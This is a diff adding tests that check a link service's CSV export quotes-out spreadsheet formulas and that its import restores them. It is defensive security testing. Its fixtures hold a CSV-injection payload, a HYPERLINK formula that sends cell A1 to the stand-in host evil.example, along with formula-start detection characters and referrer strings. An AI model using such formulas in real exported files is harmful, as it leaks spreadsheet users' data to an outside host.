@@ -7,6 +7,7 @@ import { Client } from 'pg';
 import { ClickWriter } from '../src/clicks/click-writer';
 import { createAccount, createTestApp, type TestAccount, type TestApp } from './support/app';
 import { apiClient } from './support/api';
+import { clickFixtures } from './support/clicks';
 import { onRealPostgres } from './support/test-database';
 import { createLink, UA, unique } from './support/visitors';
 
@@ -34,6 +35,10 @@ const LINK_HEADER = [
 
 type Row = Record<string, string>;
 
+/** What a spreadsheet reads as the start of a formula: OWASP's list, and the full-width forms some read alike. */
+const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+const FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"Click")';
+
 function csvRows(text: string): { header: string[]; rows: Row[] } {
   const records = parse(text) as string[][];
   const [header, ...lines] = records;
@@ -45,6 +50,7 @@ describe('CSV export and import', () => {
   let owner: TestAccount;
   let other: TestAccount;
   const { call, form } = apiClient(() => t);
+  const { insertClicks } = clickFixtures(() => t);
 
   beforeAll(async () => {
     t = await createTestApp();
@@ -140,6 +146,28 @@ describe('CSV export and import', () => {
       expect(csvRows(response.body as string)).toEqual({ header: LINK_HEADER, rows: [] });
     });
 
+    it('writes a title that a spreadsheet would read as a formula after a quote, in a quoted cell', async () => {
+      const tag = unique('formula');
+      const sent = await createLink(t, owner, { url: 'https://example.com/f', title: `=${FORMULA} ${tag}` });
+      // Fetched titles are stored as the target page gives them: every first character a page can choose.
+      const fetched: { id: number; title: string }[] = [];
+      for (const start of FORMULA_STARTS) {
+        const link = await createLink(t, owner, { url: 'https://example.com/g', title: tag });
+        const title = `${start}${FORMULA} ${tag}`;
+        await t.dataSource.query('UPDATE links SET title = $2 WHERE id = $1', [link.id, title]);
+        fetched.push({ id: link.id, title });
+      }
+      const response = await csv(owner, `/api/v1/links/export?search=${tag}&sort_by=id&sort=asc`);
+      expect(response.status).toBe(200);
+      const text = response.body as string;
+      expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"") ${tag}",`);
+      const { rows } = csvRows(text);
+      expect(rows.map((row) => [row.id, row.title, row.clicks])).toEqual([
+        [String(sent.id), `'=${FORMULA} ${tag}`, '0'],
+        ...fetched.map((link) => [String(link.id), `'${link.title}`, '0']),
+      ]);
+    });
+
     it('refuses a bad filter with a 422 naming it', async () => {
       const response = await call(owner, 'get', '/api/v1/links/export?status=9');
       expect(response.status).toBe(422);
@@ -179,6 +207,43 @@ describe('CSV export and import', () => {
       expect(created.map(fields)).toEqual(
         made.map((link) => fields(link as unknown as Record<string, unknown>)),
       );
+    });
+
+    it('takes back titles and aliases that export wrote after a quote, as they were', async () => {
+      const tag = unique('formula-trip');
+      const made: Record<string, unknown>[] = [];
+      // The API trims titles: a tab or carriage return never starts one it stores.
+      for (const [i, start] of FORMULA_STARTS.filter((start) => start.trim() !== '').entries()) {
+        made.push(
+          (await createLink(t, owner, {
+            alias: `${start === '-' ? '-' : ''}${unique(`trip${i}`)}`,
+            url: `https://example.com/trip${i}`,
+            title: `${start}${FORMULA} ${tag}`,
+          })) as unknown as Record<string, unknown>,
+        );
+      }
+      const exported = (await csv(owner, `/api/v1/links/export?search=${tag}&sort_by=id&sort=asc`))
+        .body as string;
+      expect(csvRows(exported).rows.map((row) => row.title)).toEqual(
+        made.map((link) => `'${String(link.title)}`),
+      );
+      for (const link of made) await call(owner, 'delete', `/api/v1/links/${String(link.id)}`);
+
+      const response = await call(owner, 'post', '/api/v1/links/import').type('text/csv').send(exported);
+      expect(response.status).toBe(201);
+      const fields = (link: Record<string, unknown>) => [link.alias, link.url, link.title];
+      expect((response.body.data as Record<string, unknown>[]).map(fields)).toEqual(made.map(fields));
+    });
+
+    it('reads a quote before a formula character as the cell’s neutralisation, and any other quote as text', async () => {
+      const tag = unique('quoted');
+      const file = `url,title\nhttps://example.com/q1,"'=1+1 ${tag}"\nhttps://example.com/q2,'quoted ${tag}\n`;
+      const response = await call(owner, 'post', '/api/v1/links/import').type('text/csv').send(file);
+      expect(response.status).toBe(201);
+      expect((response.body.data as { title: string }[]).map((link) => link.title)).toEqual([
+        `=1+1 ${tag}`,
+        `'quoted ${tag}`,
+      ]);
     });
 
     it('refuses the whole file when a row is invalid, naming the row (counted from 0) and field', async () => {
@@ -321,6 +386,64 @@ describe('CSV export and import', () => {
       ]);
       const times = rows.map((row) => row.created_at);
       expect([...times].sort()).toEqual(times);
+    });
+
+    it('writes a referrer that a spreadsheet would read as a formula after a quote, in a quoted cell', async () => {
+      const link = await createLink(t, owner, { url: 'https://example.com/referred' });
+      // A referrer's host may hold = + - ( ) " , and full-width forms (here percent-encoded) that the URL parser
+      // turns into them.
+      const referers = [
+        'http://=HYPERLINK("evil.example","Click")/',
+        'http://+1+2/',
+        'http://-1+cmd/',
+        'http://%EF%BC%9D1+1/',
+      ];
+      for (const referer of referers) {
+        await t.http().get(`/${link.alias}`).set('User-Agent', UA.windowsChrome).set('Referer', referer);
+      }
+      await t.app.get(ClickWriter).settle();
+      const response = await csv(owner, `/api/v1/stats/${link.id}/export`);
+      expect(response.status).toBe(200);
+      const text = response.body as string;
+      expect(text).toContain(`,"'=hyperlink(""evil.example"",""click"")",`);
+      expect(csvRows(text).rows.map((row) => [row.referrer, row.browser])).toEqual([
+        [`'=hyperlink("evil.example","click")`, 'Chrome'],
+        [`'+1+2`, 'Chrome'],
+        [`'-1+cmd`, 'Chrome'],
+        [`'=1+1`, 'Chrome'],
+      ]);
+    });
+
+    it('writes every recorded text of a click that starts with a formula character after a quote', async () => {
+      const link = await createLink(t, owner, { url: 'https://example.com/recorded' });
+      await insertClicks(
+        link.id,
+        FORMULA_STARTS.map((start, i) => ({
+          created_at: new Date(Date.UTC(2026, 0, 1, 0, 0, i)).toISOString(),
+          referrer: `${start}${FORMULA}`,
+          country: `${start}1`,
+          city: `${start}city`,
+          continent: `${start}2`,
+          browser: `${start}browser`,
+          operating_system: `${start}os`,
+          device: `${start}device`,
+          language: `${start}3`,
+        })),
+      );
+      const { rows } = csvRows((await csv(owner, `/api/v1/stats/${link.id}/export`)).body as string);
+      expect(rows).toEqual(
+        FORMULA_STARTS.map((start, i) => ({
+          created_at: `2026-01-01T00:00:0${i}.000000Z`,
+          referrer: `'${start}${FORMULA}`,
+          country: `'${start}1`,
+          city: `'${start}city`,
+          continent: `'${start}2`,
+          browser: `'${start}browser`,
+          operating_system: `'${start}os`,
+          device: `'${start}device`,
+          language: `'${start}3`,
+        })),
+      );
     });
 
     it('is a 404 for another account’s link', async () => {
